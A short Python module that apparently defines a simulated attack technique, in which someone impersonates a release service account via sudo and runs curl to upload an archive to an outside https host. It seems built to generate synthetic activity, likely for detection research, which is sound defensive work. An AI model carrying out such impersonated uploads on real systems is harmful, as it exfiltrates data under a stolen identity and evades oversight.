"""Somebody becomes the service account of releases, and sends as it."""

from __future__ import annotations

from ..doing import DEPLOY, Doing
from ..technique import Plan, Technique
from ..work import Visit


def _visits(plan: Plan) -> list[Visit]:
    place, size = plan.place("https"), plan.amount()

    def act(doing: Doing) -> None:
        actor = doing.shell.sudo(
            "curl", "-sT", "app.tgz", f"https://{place.name}/", target=DEPLOY.name, uid=DEPLOY.uid
        )
        doing.shell.send(doing.draw, actor, place, size, 6000)

    return [plan.visit(plan.day(), act)]


TECHNIQUE = Technique("service-account", 15, "an upload as a service account", _visits)
